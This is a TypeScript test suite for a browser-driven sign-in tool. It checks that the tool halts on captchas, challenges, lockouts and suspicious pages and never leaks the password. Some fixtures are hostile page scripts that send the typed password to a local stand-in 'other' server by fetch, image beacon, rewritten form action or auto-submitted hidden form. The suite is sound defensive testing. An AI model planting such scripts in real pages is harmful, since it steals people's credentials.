import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, test } from 'node:test'
import { chromiumMissing, chromiumVars } from '../support/chromium.ts'
import { type Reply, sharedDoor } from '../support/door.ts'
import type { Document } from '../support/env.ts'

const skip = chromiumMissing()
const door = await sharedDoor()
const PASSWORD = 'correct-horse-battery'
const VARS = { CI: 'true', SMOKE_PASSWORD: PASSWORD, SHORT: 'a1b', ...(skip ? {} : await chromiumVars()) }
const USER = ['--form', 'username=ada', '--form', 'password=env:SMOKE_PASSWORD', '--headless']
const FIELDS = '<input name=username autocomplete=username><input type=password name=password><button>Sign in</button>'
const LOGIN = `<form method=post action=/in>${FIELDS}</form>`
const page = (body: string, status = 200): Reply => ({
  status,
  html: `<!doctype html><title>Acme</title><body>${body}`,
})
/** A form that scripts send: to `where`, by this code. */
const scripted = (code: string): string =>
  `<form id=f>${FIELDS}</form><script>f.onsubmit = (event) => { event.preventDefault(); const password = f.password.value; const username = f.username.value; ${code} }</script>`

/** What arrived at the server of somebody else. */
const taken: string[] = []
let elsewhere = ''
const other = createServer(async (request, response) => {
  let body = ''
  for await (const chunk of request) body += String(chunk)
  taken.push(`${request.method} ${request.url} ${body} ${JSON.stringify(request.headers)}`)
  response
    .writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' })
    .end('<p>thanks</p>')
})
before(async () => {
  await new Promise<void>((done) => other.listen(0, '127.0.0.1', done))
  elsewhere = `http://127.0.0.1:${(other.address() as AddressInfo).port}`
})
after(() => {
  other.closeAllConnections()
  other.close()
})

const sentPassword = (): number =>
  door.asked.filter(({ body, query }) => [...body, ...query].flat().some((text) => text.includes(PASSWORD))).length

/** A page after which nobody is signed in, and how that is told. */
const ENDS: readonly {
  readonly name: string
  readonly first: () => Reply
  readonly next?: () => Reply
  readonly code: string
  readonly says: RegExp
  /** How often the password may have been sent. */
  readonly sent: number
}[] = [
  {
    name: 'a captcha in the form',
    first: () => page(`<form method=post action=/in>${FIELDS}<div class="g-recaptcha" data-sitekey=k>.</div></form>`),
    code: 'sign_in_needs_person',
    says: /captcha/,
    sent: 0,
  },
  {
    name: 'a captcha that nobody sees',
    first: () =>
      page(
        `<form method=post action=/in>${FIELDS}<button class=g-recaptcha data-sitekey=k type=button>.</button></form><div class=grecaptcha-badge><iframe src="/recaptcha/api2/anchor?size=invisible"></iframe></div>`,
      ),
    next: () => door.through(),
    code: '',
    says: /^$/,
    sent: 1,
  },
  {
    name: 'Cloudflare',
    first: () => ({
      ...page('<h1>Just a moment...</h1>', 403),
      headers: { server: 'cloudflare', 'cf-mitigated': 'challenge' },
    }),
    code: 'sign_in_needs_person',
    says: /firewall Cloudflare/,
    sent: 0,
  },
  {
    name: 'a push to a phone that a page asks about again and again',
    first: () => page(LOGIN),
    next: () =>
      page(
        '<h1>Approve sign in request</h1><p>Open your Authenticator app, and approve the request on your phone.</p><script>setInterval(() => fetch("/poll"), 200)</script>',
      ),
    code: 'sign_in_needs_person',
    says: /another device/,
    sent: 1,
  },
  {
    name: 'a lockout told by scripts',
    first: () =>
      page(
        scripted(
          'fetch("/in", {method: "POST", body: new URLSearchParams({username, password})}).then(() => f.insertAdjacentHTML("beforebegin", "<p role=alert>Your account has been temporarily locked.</p>"))',
        ),
      ),
    next: () => page('{}', 429),
    code: 'sign_in_needs_person',
    says: /locked/,
    sent: 1,
  },
  {
    name: 'a page of scripts that shows nothing',
    first: () => page('<div id=root></div><script>1</script>'),
    code: 'sign_in_needs_person',
    says: /no form for username, password, and nothing that surely leads on/,
    sent: 0,
  },
  {
    name: 'a form that does nothing',
    first: () => page(scripted('')),
    code: 'sign_in_needs_person',
    says: /does nothing when it is filled in and sent/,
    sent: 0,
  },
  {
    name: 'a form that is checked by the page and not sent',
    first: () => page(scripted('f.insertAdjacentHTML("beforebegin", "<p role=alert>Too short</p>")')),
    code: 'sign_in_needs_person',
    says: /did not send what was typed/,
    sent: 0,
  },
  {
    name: 'a form that posts to another origin',
    first: () => page(`<form method=post action=${elsewhere}/in>${FIELDS}</form>`),
    code: 'sign_in_needs_person',
    says: /would send what is typed to http:\/\/127\.0\.0\.1:\d+, and values are typed for/,
    sent: 0,
  },
  {
    name: 'a page of another origin that asks',
    first: () => ({ location: `${elsewhere}/` }),
    code: 'sign_in_needs_person',
    says: /no form/,
    sent: 0,
  },
  {
    name: 'a form that the browser would send by GET',
    first: () => page(`<form action=/in>${FIELDS}</form>`),
    code: 'sign_in_needs_person',
    says: /part of a URL \(GET\)/,
    sent: 0,
  },
  {
    name: 'a name alone that the browser would send by GET',
    first: () => page('<form action=/in><input name=username><button>Next</button></form>'),
    code: 'sign_in_needs_person',
    says: /part of a URL \(GET\)/,
    sent: 0,
  },
  {
    name: 'a form in a shadow root that the browser would send by GET',
    first: () =>
      page(
        `<div id=host></div><script>host.attachShadow({mode: "open"}).innerHTML = ${JSON.stringify(`<form action=/in>${FIELDS}</form>`)}</script>`,
      ),
    code: 'sign_in_needs_person',
    says: /part of a URL \(GET\)/,
    sent: 0,
  },
  {
    name: 'scripts that send by GET',
    first: () => page(scripted('location.assign("/in?x=" + password)')),
    code: 'sign_in_needs_person',
    says: /in a URL; it was not followed/,
    sent: 0,
  },
  {
    name: 'scripts that ask with the password in the URL',
    first: () => page(scripted('fetch("/in?x=" + btoa(password))')),
    code: 'sign_in_needs_person',
    says: /in a URL; it was not followed/,
    sent: 0,
  },
  {
    name: 'scripts that send to another origin',
    first: () => page(scripted(`fetch("${elsewhere}/in", {method: "POST", body: JSON.stringify({password})})`)),
    code: 'sign_in_needs_person',
    says: /sends it to http:\/\/127\.0\.0\.1:\d+; it was not sent/,
    sent: 0,
  },
  {
    name: 'a picture of another origin that takes it along',
    first: () => page(scripted(`new Image().src = "${elsewhere}/i?" + encodeURIComponent(password)`)),
    code: 'sign_in_needs_person',
    says: /in a URL; it was not followed/,
    sent: 0,
  },
  {
    name: 'a form whose scripts change where it goes',
    first: () =>
      page(
        `<form id=f method=post action=/in>${FIELDS}</form><script>f.onsubmit = () => { f.action = "${elsewhere}/in" }</script>`,
      ),
    code: 'sign_in_needs_person',
    says: /sends it to http:\/\/127\.0\.0\.1:\d+; it was not sent/,
    sent: 0,
  },
  {
    name: 'a redirect that sends the form again elsewhere (307)',
    first: () => page(LOGIN),
    next: () => ({ status: 307, location: `${elsewhere}/in` }),
    code: 'sign_in_needs_person',
    says: /leads it on to .* \(307, 308\)/,
    sent: 1,
  },
  {
    name: 'the same with 308, of what scripts sent',
    first: () => page(scripted('fetch("/in", {method: "POST", body: JSON.stringify({username, password})})')),
    next: () => ({ status: 308, location: `${elsewhere}/in` }),
    code: 'sign_in_needs_person',
    says: /leads it on to .* \(307, 308\)/,
    sent: 1,
  },
  {
    name: 'a redirect with the password in its URL',
    first: () => page(LOGIN),
    next: () => ({ location: `${elsewhere}/?p=${PASSWORD}` }),
    code: 'sign_in_needs_person',
    says: /repeats what the person typed/,
    sent: 1,
  },
  {
    name: 'a form that hands the password on by itself',
    first: () => page(LOGIN),
    next: () =>
      page(
        `<body onload="document.forms[0].submit()"><form method=post action=${elsewhere}/x><input type=hidden name=p value=${PASSWORD}></form>`,
      ),
    code: 'sign_in_needs_person',
    says: /repeats what the person typed/,
    sent: 1,
  },
  {
    name: 'fields that nobody sees',
    first: () =>
      page(
        `<style>.off{position:absolute;left:-9999px}.hp{display:none}</style><form method=post action=/in><div class=hp>${FIELDS}</div><div class=off>${FIELDS}</div><div style="opacity:0">${FIELDS}</div><div style="visibility:hidden">${FIELDS}</div></form>`,
      ),
    code: 'sign_in_needs_person',
    says: /no form/,
    sent: 0,
  },
  {
    name: 'a wrong password',
    first: () => page(LOGIN),
    next: () => page(`<div class=alert-error>Invalid username or password.</div>${LOGIN}`),
    code: 'sign_in_refused',
    says: /asks for username and password again and says: Invalid username or password\./,
    sent: 1,
  },
  {
    name: 'an error page of the provider',
    first: () => page('<h1>invalid redirect_uri</h1>', 400),
    code: 'provider_refused',
    says: /answered 400: invalid redirect_uri/,
    sent: 0,
  },
  {
    name: 'redirects without end',
    first: () => ({ location: `/authorize?n=${door.asked.length}` }),
    code: 'sign_in_needs_person',
    says: /it is led on more than 19 times in a row; the last page was http:\/\/127\.0\.0\.1:\d+\/authorize\.$/,
    sent: 0,
  },
]

for (const { name, first, next, code, says, sent } of ENDS)
  test(`in a browser ${name} ends the sign-in, and is told apart`, { skip }, async () => {
    taken.length = 0
    door.answer = ({ method, path }) =>
      path === '/poll' ? page('{}') : method === 'POST' || path === '/in' ? (next?.() ?? page('lost', 404)) : first()
    const ran = await door.login(USER, { vars: VARS })
    assert.ok(!door.asked.some(({ query }) => query.get('username') === 'ada'), 'the name was sent by GET')
    const document: Document = ran.json()
    assert.equal(document.error?.code ?? '', code, JSON.stringify(document.error))
    assert.match(document.error?.message ?? '', says)
    assert.equal(sentPassword(), sent)
    assert.deepEqual(
      taken.filter((each) => /correct|battery|ada\b/.test(each)),
      [],
    )
    assert.ok(!`${ran.stdout}${ran.stderr}`.includes(PASSWORD), 'the password stands in the report')
  })
